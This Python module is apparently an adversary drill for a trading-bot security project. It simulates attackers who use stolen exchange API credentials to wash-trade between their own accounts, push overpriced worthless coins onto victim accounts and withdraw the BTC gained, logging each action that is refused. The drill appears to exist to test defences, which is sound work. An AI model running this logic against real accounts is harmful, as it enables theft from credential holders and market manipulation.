"""The thieves: programs that got hold of the credentials of bots, and do what was done in 2022.

Pairs of accounts of their own work side by side, each in one thin market, which some trades
between the two make look alive. Customer by customer they sell the liquid coin, rest offers of a
worthless coin far above its price, make the customer buy them, and withdraw what that gave. Where
it is refused they try what else the credential may do: offers at a fair price for coins that
nobody else wants, orders far off the market, churning, orders marked as exits, and the doors
that move value.
"""

import asyncio
from decimal import ROUND_DOWN, Decimal
from typing import Any

import ccxt.async_support as ccxt
import msgspec

from tradelatch.drills.ccxt_client import connect, load_markets_once, message, patiently
from tradelatch.drills.script import Credentials, read_brief, tell
from tradelatch.drills.theft import THIEF, Scheme, Theft, Victim

WASHES = 3
_DUST, _LEAST = 1e-6, Decimal("1e-8")


class Pair(msgspec.Struct, frozen=True):
    """Two accounts of their own, the thin market they work in, and whom they rob there."""

    accounts: tuple[Credentials, ...]
    thin: str
    victims: tuple[Victim, ...]


class Brief(msgspec.Struct, frozen=True):
    """What the thieves have, how far above the market they offer, and how long an hour is."""

    pairs: tuple[Pair, ...]
    markup: float
    hour_s: float


async def steal(brief: Brief) -> None:
    """All pairs at once."""
    await asyncio.gather(*(_rob_all(pair, brief) for pair in brief.pairs))


async def _rob_all(pair: Pair, brief: Brief) -> None:
    stolen = [connect(victim.account) for victim in pair.victims]
    own = [connect(account) for account in pair.accounts]
    try:
        await asyncio.gather(load_markets_once(stolen), load_markets_once(own))
        await _wash(own, pair.thin)
        scheme = Scheme(own, pair.thin, brief.markup, brief.hour_s)
        brought = {one.apiKey: await _money(one) for one in own}
        for victim, client in zip(pair.victims, stolen, strict=True):
            await Theft(victim, client, scheme).run()
            if not await _withdraw(own, brought, victim.name):
                break
    finally:
        await asyncio.gather(*(client.close() for client in (*stolen, *own)))


async def _money(client: Any) -> float:
    return float((await patiently(client.fetch_balance))["free"].get("BTC", 0))


async def _withdraw(own: list[Any], brought: dict[str, float], victim: str) -> bool:
    """Take out what their own accounts got beyond what they brought; whether that is let."""
    loot = 0.0
    for client in own:
        more = await _money(client) - brought[client.apiKey]
        if more < _DUST:
            continue
        amount = Decimal(more).quantize(_LEAST, ROUND_DOWN)
        try:
            await client.withdraw("BTC", str(amount), "elsewhere")
        except ccxt.BaseError as error:
            tell(THIEF, f"withdraw: {message(error)}; they give up", refused=True)
            return False
        loot += more
    if loot:
        tell(THIEF, f"{victim}: they withdrew {loot:.4f} BTC")
    return True


async def _wash(own: list[Any], thin: str) -> None:
    """Trades between their own accounts, which make the market look alive."""
    seller, buyer = own
    for _ in range(WASHES):
        ticker = await patiently(seller.fetch_ticker, thin)
        price = seller.price_to_precision(thin, (ticker["bid"] + ticker["ask"]) / 2)
        amount = seller.amount_to_precision(thin, 0.01 / float(price))
        try:
            await seller.create_order(thin, "limit", "sell", amount, price)
            await buyer.create_order(thin, "limit", "buy", amount, price)
        except ccxt.BaseError as error:
            tell(THIEF, message(error), refused=True)
            return
    tell(THIEF, f"traded {thin} with themselves {WASHES} times at {seller.name}")


if __name__ == "__main__":
    asyncio.run(steal(read_brief(Brief)))
